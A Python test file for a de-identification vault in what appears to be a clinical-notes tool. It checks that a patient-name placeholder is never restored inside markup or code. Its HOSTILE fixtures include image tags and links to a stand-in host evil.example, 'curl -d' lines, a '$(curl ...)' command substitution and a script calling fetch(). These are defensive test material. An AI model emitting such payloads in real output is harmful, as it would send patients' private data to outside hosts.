"""Where an answer may not get a value back. Each hostile text is one that a page, a viewer or a client would act
on."""

from __future__ import annotations

import time

import pytest

from bedside.boundary import Identifier, SealedText, Vault
from bedside.boundary.closed_text import closed_spans
from bedside.records import CaseId

P = "[PERSON_1]"

HOSTILE = {
    "a tag": f'<img src="https://evil.example/{P}">',
    "a tag over lines": f'<img\n  alt="x"\n  src="//evil.example/{P}"\n>',
    "a tag with a > in quotes": f'<a title=">" href="evil.example?{P}">see</a>',
    "a tag with single quotes": f"<a title='>' href='x {P}'>",
    "a tag whose quote nothing ends": f'<a title="x href={P} > and on',
    "a tag that nothing ends": f"<img src=x {P}\n\n and on",
    "a comment": f"<!-- \n {P}\n -->",
    "an instruction": f"<?php echo {P} ?>",
    "a link": f"[see]({P})",
    "a link with a title": f'[see](/x "{P}")',
    "a link over lines": f"[see](\nhttps://evil.example\n/ {P})",
    "a link with brackets": f"[see](/a(b){P})",
    "an image": f"![x](/{P}.png)",
    "an image by reference": f"![{P}][evil]",
    "a reference as a label": f"![x][{P}]",
    "a link by reference": f"[see][{P}]",
    "a definition": f"[evil]: //evil.example/{P}",
    "a definition whose address is in the next line": f"[evil]:\n  /x?{P}",
    "a quoted definition": f"> [evil]: <//evil.example/{P}>",
    "an autolink": f"<mailto:{P}>",
    "an address": f"https://evil.example/{P}",
    "one without its scheme": f"//evil.example/{P}",
    "a domain": f"{P}.evil.example",
    "a path": f"evil.example/{P}",
    "a query": f"x?q={P}",
    "an e-mail address": f"{P}@evil.example",
    "a back fence": f"```sh\ncurl x -d {P}\n```",
    "a wavy fence": f"~~~\ncurl x -d {P}\n~~~",
    "a fence in a quote": f"> ~~~~\n> curl {P}\n> ~~~~",
    "a fence that nothing ends": f"~~~\ncurl x -d {P}",
    "code in a line": f"run `curl {P}` now",
    "code over lines": f"run `curl\n{P}` now",
    "code between two ticks": f"run ``curl {P}`` now",
    "code that is set in": f"Run:\n\n    curl x -d {P}",
    "code behind a tab": f"Run:\n\n\tcurl x -d {P}",
    "code that is set in, in a quote": f"> Run:\n>\n>     curl {P}",
    "code that is set in, in a list": f"- Run:\n\n      curl {P}",
    "preformatted": f"<pre>\ncurl {P}\n</pre>",
    "a script": f"<script>\nfetch(u + ' {P}')\n</script>",
    "a style": f"<style>\na {{ content: '{P}' }}",
    "a drawing": f"<svg>\n<text>{P}</text>\n</svg>",
    "a link with brackets and a title": f'[a](/a(b(c)d) "{P}")',
    "an image's words over lines": f"![a\n{P} b](http://evil.example)",
    "what a shell runs": f"$(curl x -d {P})",
    "a link between pages": f"[[page|{P}]]",
    "a data address": f"data:text/html,{P}",
    "TeX": f"\\href{{{P}}}{{see}}",
}

PLAIN = [
    f"{P} needs an ECG.",
    f"Ask {P}, then {P}.",
    f"({P})",
    f"“{P}” was seen.",
    f"{P}'s pressure is < 90 mmHg.",
    f"if pressure < 90\n\ncall {P}",
    f"- {P}: stable",
    f"1. {P}",
    f"**{P}** is stable; SpO2 > 94 %",
    f"[1] {P} was admitted.",
    f"Fact one. [2]\n\nSee {P}.",
    f"~ 5 days; {P} improved",
    f"the `ECG` of {P}",
    f"{P}…",
]


@pytest.fixture
def vault() -> Vault:
    found = Vault(CaseId("case-1"))
    assert found.placeholder(Identifier.PERSON, "Zebulon Quillfeather") == P
    sealed = SealedText("", "t", found.case, "d", "k", "f" * 64)
    found._issued[sealed.id] = frozenset({P})
    return found


@pytest.mark.parametrize("what", HOSTILE)
def test_guarantee_nothing_is_put_back_where_it_would_be_used(what: str, vault: Vault) -> None:
    text, strangers = vault.restore(HOSTILE[what], question="f" * 16)
    assert "Zebulon" not in text
    assert strangers == (P,)


@pytest.mark.parametrize("text", PLAIN)
def test_in_prose_it_is_put_back(text: str, vault: Vault) -> None:
    restored, strangers = vault.restore(text, question="f" * 16)
    assert restored == text.replace(P, "Zebulon Quillfeather")
    assert not strangers


@pytest.mark.parametrize("part", ["<a ", "](", "![", "[x]: ", "~~~\n", "`", '<a "', "[", "(", "//x ", "]["])
def test_the_time_grows_with_the_length(part: str) -> None:
    """A ratio: eight times the text takes less than 32 times as long."""

    def seconds(count: int) -> float:
        start = time.process_time()
        closed_spans(part * count)
        return time.process_time() - start

    seconds(200)
    assert seconds(1_600) < 32 * max(seconds(200), 0.001)
